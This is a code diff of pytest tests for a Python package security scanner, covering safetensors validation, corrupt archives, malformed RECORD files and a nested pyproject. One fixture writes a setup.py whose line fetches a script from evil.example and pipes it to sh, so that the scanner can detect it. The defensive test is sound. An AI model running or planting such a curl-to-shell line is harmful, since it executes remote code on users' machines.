@@ -13,11 +13,11 @@ from pathlib import Path
 import pytest
 from click.testing import CliRunner
 
-from scanner.archive import SafeArchive
+from scanner.checks.models.model_files import validate_safetensors
 from scanner.cli import main
 from scanner.errors import ArchiveError, ConfigError
-from scanner.hashing import hash_files
-from scanner.model_files import validate_safetensors
+from scanner.infra.archive import SafeArchive
+from scanner.infra.hashing import hash_files
 from scanner.policy import load_config
 from scanner.sources.environment import parse_entry_points, parse_record
 from tests.helpers.wheels import install_wheel, make_site_packages, make_wheel
@@ -37,8 +37,7 @@ def test_safetensors_shape_too_large_for_a_float_is_a_problem_not_a_crash() -> N
 
 def test_safetensors_shape_with_many_huge_dims_is_quick() -> None:
     # Was: quadratic big-integer product over 80,000 dimensions (minutes; a hang).
-    data = _safetensors({"t": {"dtype": "F32", "shape": [10**18] * 80_000,
-                               "data_offsets": [0, 4]}})
+    data = _safetensors({"t": {"dtype": "F32", "shape": [10**18] * 80_000, "data_offsets": [0, 4]}})
     start = time.perf_counter()
     problems = validate_safetensors(io.BytesIO(data), len(data))
     assert time.perf_counter() - start < 5
@@ -46,8 +45,9 @@ def test_safetensors_shape_with_many_huge_dims_is_quick() -> None:
 
 
 def test_safetensors_zero_dim_after_a_huge_one_is_still_zero_bytes() -> None:
-    data = _safetensors({"t": {"dtype": "F32", "shape": [10**18, 0], "data_offsets": [0, 0]}},
-                        buffer=b"")
+    data = _safetensors(
+        {"t": {"dtype": "F32", "shape": [10**18, 0], "data_offsets": [0, 0]}}, buffer=b""
+    )
     assert validate_safetensors(io.BytesIO(data), len(data)) == []
 
 
@@ -73,7 +73,7 @@ def test_zip_needing_an_unknown_version_is_an_archive_error(tmp_path: Path) -> N
         zf.writestr("pkg/__init__.py", b"x = 1\n")
     data = bytearray(buf.getvalue())
     central = data.index(b"PK\x01\x02")
-    data[central + 6:central + 8] = struct.pack("<H", 250)  # "version needed to extract"
+    data[central + 6 : central + 8] = struct.pack("<H", 250)  # "version needed to extract"
     path = tmp_path / "pkg-1.0-py3-none-any.whl"
     path.write_bytes(bytes(data))
     with pytest.raises(ArchiveError, match="corrupt"):
@@ -87,7 +87,7 @@ def test_damaged_deflate_stream_is_an_archive_error(tmp_path: Path) -> None:
         zf.writestr("pkg/data.py", bytes(range(256)) * 64)
     data = bytearray(buf.getvalue())
     start = data.index(b"pkg/data.py") + len("pkg/data.py")
-    data[start:start + 40] = b"\x00\xff" * 20  # the deflate stream itself, headers intact
+    data[start : start + 40] = b"\x00\xff" * 20  # the deflate stream itself, headers intact
     path = tmp_path / "pkg-1.0-py3-none-any.whl"
     path.write_bytes(bytes(data))
     with SafeArchive(path) as archive:
@@ -113,16 +113,19 @@ def test_nul_byte_in_a_record_path_is_a_malformed_record(tmp_path: Path) -> None
     with pytest.raises(ValueError, match="NUL"):
         parse_record(f"pkg/\x00.py,sha256={'A' * 43},1\n")
     site = make_site_packages(tmp_path / "venv")
-    dist_info = install_wheel(make_wheel(tmp_path, "demo", "1.0", {"demo/__init__.py": "x=1\n"}),
-                              site)
+    dist_info = install_wheel(
+        make_wheel(tmp_path, "demo", "1.0", {"demo/__init__.py": "x=1\n"}), site
+    )
     record = dist_info / "RECORD"
     record.write_text(record.read_text() + "demo/\x00evil.py,,\n")
     (site / "demo-0.1.egg-info").mkdir()
     (site / "demo-0.1.egg-info" / "PKG-INFO").write_text("Name: old\nVersion: 0.1\n")
     (site / "demo-0.1.egg-info" / "installed-files.txt").write_text("../old/\x00.py\n")
     (site / "demo-0.1.egg-info" / "top_level.txt").write_text("old\x00\n")
-    result = CliRunner().invoke(main, ["scan", "--no-cache", "--check", "integrity",
-                                       "--format", "json", str(tmp_path / "venv")])
+    result = CliRunner().invoke(
+        main,
+        ["scan", "--no-cache", "--check", "integrity", "--format", "json", str(tmp_path / "venv")],
+    )
     assert result.exit_code == 1, result.stderr
     ids = {f["rule_id"] for f in json.loads(result.stdout)["findings"]}
     assert "WS-INT-003" in ids
@@ -133,15 +136,17 @@ def test_sdist_with_a_deeply_nested_pyproject_is_scanned(tmp_path: Path) -> None
     # scan ended "input nested too deeply to scan" without naming the file (exit 3).
     buf = io.BytesIO()
     with tarfile.open(fileobj=buf, mode="w:gz") as tf:
-        for name, data in {"deep-1.0/pyproject.toml": b"a = " + b"[" * 5000 + b"]" * 5000,
-                           "deep-1.0/setup.py": b"import os\nos.system('curl -s "
-                                                b"http://evil.example/x | sh')\n"}.items():
+        for name, data in {
+            "deep-1.0/pyproject.toml": b"a = " + b"[" * 5000 + b"]" * 5000,
+            "deep-1.0/setup.py": b"import os\nos.system('curl -s http://evil.example/x | sh')\n",
+        }.items():
             info = tarfile.TarInfo(name)
             info.size = len(data)
             tf.addfile(info, io.BytesIO(data))
     sdist = tmp_path / "deep-1.0.tar.gz"
     sdist.write_bytes(buf.getvalue())
-    result = CliRunner().invoke(main, ["scan", "--no-cache", "--check", "heuristics",
-                                       "--format", "json", str(sdist)])
+    result = CliRunner().invoke(
+        main, ["scan", "--no-cache", "--check", "heuristics", "--format", "json", str(sdist)]
+    )
     assert result.exit_code == 1, result.stderr
     assert json.loads(result.stdout)["findings"]
